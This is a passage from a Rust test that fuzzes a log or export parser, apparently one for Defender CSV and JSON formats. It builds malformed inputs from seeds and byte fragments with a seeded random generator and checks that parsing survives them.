        b"Z",
        b"0",
        b"9",
        b".",
        b"-",
        b"T",
        b"+",
        b"\xef\xbb\xbf",
        b"\xff",
        b"\xc3\xa9",
        b"\xe2\x82\xac",
        b"\t",
    ];
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
    for round in 0..3000 {
        let mut data = seeds[round % seeds.len()].to_vec();
        match round % 3 {
            0 => data.truncate(rng.below(data.len() + 1)),
            1 => {
                for _ in 0..1 + rng.below(8) {
                    let at = rng.below(data.len());
                    let piece = PIECES[rng.below(PIECES.len())];
                    if rng.below(2) == 0 {
                        data.splice(at..at, piece.iter().copied());
                    } else {
                        data.splice(
                            at..(at + piece.len()).min(data.len()),
                            piece.iter().copied(),
                        );
                    }
                }
            }
            _ => {
                data = (0..rng.below(64))
                    .flat_map(|_| PIECES[rng.below(PIECES.len())].iter().copied())
                    .collect();
                if round % 2 == 0 {
                    data.splice(0..0, HEAD.bytes());
                }
            }
        }
        for format in [None, Some(Format::DefenderCsv), Some(Format::DefenderJson)] {
            let _ = run_with(&data, format, &Options::default());
        }
    }
}
